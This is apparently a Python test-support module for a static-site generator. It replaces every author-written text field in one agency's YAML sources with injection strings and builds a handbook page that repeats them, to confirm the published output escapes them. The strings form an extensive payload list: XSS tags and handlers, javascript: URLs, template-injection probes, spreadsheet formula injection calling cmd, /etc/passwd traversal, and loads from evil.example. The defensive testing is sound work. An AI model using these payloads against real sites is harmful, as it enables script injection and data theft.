"""Texts that would run a script wherever they reached a page as markup, and a handbook that says them everywhere.

Each calls `hit()`; nothing defines it, so a text that ran would be heard too, and a browser's own policy tells of it.
"""

from collections import defaultdict
from collections.abc import Iterator
from contextlib import contextmanager
from functools import cache
from itertools import cycle
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any, Final

import yaml

from ladderbook.files import Tree
from tests.on_disk import publish, small, write
from tests.support import real_sources

AGENCY: Final = "riverbend"
_TAGS: Final = (
    "<script>hit()</script>", "<script src=//evil.example/x.js></script>", "<SCRIPT>hit()</SCRIPT >",
    "<scr<script>ipt>hit()</script>", "<img src=x onerror=hit()>", "<img src=x onerror=hit()//",
    "<img/src/onerror=hit()>", "<IMG SRC=x ONERROR=hit()>", "<img src=`x`onerror=hit()>", "<svg onload=hit()>",
    "<svg/onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg id=x onload=hit()>#x>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=hit()>", "<math href=javascript:hit()>x</math>",
    "<body onload=hit()>", "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>hit()</script>'></iframe>", "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>", "<form action=javascript:hit()><button>x",
    "<button formaction=javascript:hit()>x</button>", "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>", "<textarea autofocus onfocus=hit()>", "<details open ontoggle=hit()>",
    "<video src=x onerror=hit()>", "<video><source onerror=hit()>", "<audio src=x onerror=hit()>",
    "<marquee onstart=hit()>x</marquee>", "<a href=javascript:hit()>x</a>", "<a href=' javascript:hit()'>x</a>",
    "<a href='java\tscript:hit()'>x</a>", "<a href=data:text/html,<script>hit()</script>>x</a>",
    "<a href=vbscript:hit()>x</a>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,x>", "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example)}</style>",
    "<p style=background:url(//evil.example)>x</p>", "<div style='position:fixed;inset:0'>x</div>",
    "<table background=//evil.example/x.png>", "<template><script>hit()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<xmp><img src=x onerror=hit()></xmp>",
    "<plaintext>", "<!--><img src=x onerror=hit()>-->", "<!--<img src='--><img src=x onerror=hit()>'>",
    "<![CDATA[<img src=x onerror=hit()>]]>", "<?xml version='1.0'?><script>hit()</script>",
    "<!doctype html><script>hit()</script>", "<x onclick=hit() tabindex=1 autofocus onfocus=hit()>",
    "<custom-element onpointerenter=hit()>", "<slot onslotchange=hit()>", "<dialog open oncancel=hit()>",
    "<isindex type=image src=1 onerror=hit()>",
)  # fmt: skip
_BREAKS: Final = (
    '"', "'", '">', "'>", "`>", "</a>", "</title>", "</script>", "</style>", "</textarea>", "</svg>", "</main></body>",
    "-->", "]]>", "*/", "\\", '\\"', "\\'", "\\u0022>", "&quot;>", "&#34;&gt;", "&lt;/title&gt;", "%22%3E",
    "\uff02\uff1e", "\u202e", "--!>", "</option></select>", "</li></ul>", "</dd></dl>", "</td></tr></table>",
    "</button>", "</nav>", "</summary></details>", "</code></pre>", "?>", "</noscript>",
)  # fmt: skip
"""What may end the place where a text stands; behind each comes something that runs."""
_SCRIPTS: Final = (
    '";hit();//', "';hit();//", "`;hit();//", "${hit()}", "`${hit()}`", "\\\";hit();//", "*/hit();/*",
    "</script><script>hit()</script>", "\n};hit();\n", "}]);hit();([{", "__proto__", "constructor",
    '{"__proto__":{"hit":1}}', "null", "undefined", "[object Object]", "\\u003cscript>hit()",
    "<!--<script>hit()</script>", "javascript:hit()", "JaVaScRiPt:hit()",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{ 7 * 191 }}", "{% include 'secret' %}", "{{ ''.__class__.__mro__ }}", "{{ config }}", "{# x #}", "${7*191}",
    "#{7*191}", "<%= 7*191 %>", "{{{7*191}}}", "{{ agency|attr('__class__') }}", "{%- raw -%}",
    "{{ cycler.__init__.__globals__ }}", "{% set x = 1 %}", "@{7*191}", "{php}hit(){/php}",
)  # fmt: skip
_OTHERS: Final = (
    "=HYPERLINK(\"//evil.example\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "\u0430dmin",
    "a\u0301\u0302\u0303" * 20, "\U0001f468\u200d\U0001f469", "x" * 290, "\u0645\u0631\u062d\u0628\u0627",
    "../../../etc/passwd", "..\\..\\x", "file:///etc/passwd", "CON", "a\u00a0b", "\u200b\u200b",
)  # fmt: skip
ATTACKS: Final = (
    *_TAGS, *(f"{sign}<img src=x onerror=hit()>" for sign in _BREAKS),
    *(f"{sign} onmouseover=hit() autofocus onfocus=hit() x=" for sign in _BREAKS[:5]), *_SCRIPTS, *_TEMPLATES,
    *_OTHERS,
)  # fmt: skip
TARGETS: Final = (
    "javascript:hit()", "JAVASCRIPT:hit()", "java\tscript:hit()", " javascript:hit()", "javascript&colon;hit()",
    "&#106;avascript:hit()", "\x01javascript:hit()", "javascript:alert`1`", "vbscript:hit()",
    "data:text/html,<script>hit()</script>", "data:image/svg+xml,<svg onload=hit()>", "blob:x", "file:///etc/passwd",
    "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "view-source:x",
    "filesystem:x", "intent:x", "ms-word:x", "about:blank", "x\" onmouseover=\"hit()", "x' onmouseover='hit()",
    "x><script>hit()</script>", "role:x\" onclick=\"hit()", "page:map#\"><img src=x onerror=hit()>",
)  # fmt: skip
"""Where a link may not lead, or how an address may end before its end."""
_SAID: Final = {
    "abbreviation", "also_called", "appeal", "area", "benefits", "category", "clearance", "disputed", "evidence",
    "exam", "examples", "funding", "issuer", "jurisdiction", "keeps", "leave", "loses", "name", "note", "of",
    "process", "provider", "rating", "reason", "ref", "retention", "shifts", "starts", "statement", "subject",
    "summary", "term", "text", "then", "title", "waiver", "when",
}  # fmt: skip
"""Fields whose text an author writes freely."""
_IDS: Final = frozenset({"contacts", "checks"})
"""What looks like a text and names an item."""
_Turn = dict[str, str]
"""The attack in the place of each text; what is said twice stays the same."""
_WORDS: Final = frozenset({"unpublished", "none"})


@cache
def hostile() -> Tree:
    """The sources of one agency of this repository, with an attack in place of every text."""
    folders = ("packaged", "ladders/library", "ladders/state-standard", f"ladders/{AGENCY}")
    sources = {name: data for name, data in real_sources().items() if name.startswith(folders)}
    turns = cycle(ATTACKS)
    turn: _Turn = defaultdict(lambda: next(turns))
    for name in sorted(sources):
        if name.startswith(f"ladders/{AGENCY}/") and name.endswith(".yaml"):
            spoilt = _spoilt(yaml.load(sources[name], yaml.CBaseLoader), turn)  # noqa: S506 - it makes texts only
            sources[name] = yaml.dump(spoilt, allow_unicode=True, default_style='"', width=10**6).encode()
    sources[f"content/{AGENCY}/attacks.md"] = _page().encode()
    return sources


@contextmanager
def published() -> Iterator[Path]:
    """The output of a site with that handbook and a small one beside it, so that there is a portal; kept in memory."""
    memory = Path("/dev/shm")  # noqa: S108 - a folder of its own is made in it
    with TemporaryDirectory(dir=memory if memory.is_dir() else None) as folder:
        root = write(Path(folder), small("oak"))
        for name, data in hostile().items():
            if not name.startswith("packaged/"):
                (root / name).parent.mkdir(parents=True, exist_ok=True)
                (root / name).write_bytes(data)
        report = publish(root, root / "output", AGENCY, "oak")
        assert report.good, [str(problem) for problem in report.problems]
        yield root / "output"


def _spoilt(node: Any, turn: _Turn, field: str = "") -> Any:
    if isinstance(node, dict):
        return {key: value if key in _IDS else _spoilt(value, turn, key) for key, value in node.items()}
    if isinstance(node, list):
        return [_spoilt(value, turn, field) for value in node]
    return turn[node] if field in _SAID and node not in _WORDS else node


def said(node: Any) -> set[str]:
    """Every text in what YAML holds."""
    if isinstance(node, dict):
        return set().union(*map(said, node.values()))
    return set().union(*map(said, node)) if isinstance(node, list) else {node}


def _page() -> str:
    """Guidance of attacks: in running text, lists, tables, code, headings, quotes, notes, definitions, front matter."""
    parts = (
        "{}",
        "- {}",
        "## {}",
        "> {}",
        "> [!NOTE]\n> {}",
        "`{}`",
        "```\n{}\n```",
        "| a |\n|---|\n| {} |",
        "a\n: {}",
        "**{}**",
    )
    body = "\n\n".join(
        parts[number % len(parts)].format(f"x {attack}" if attack[0] == "#" else attack)
        for number, attack in enumerate(ATTACKS)
    )
    return f'---\ntitle: "<script>hit()</script>"\nsummary: \'"><img src=x onerror=hit()>\'\n---\n\n{body}\n'
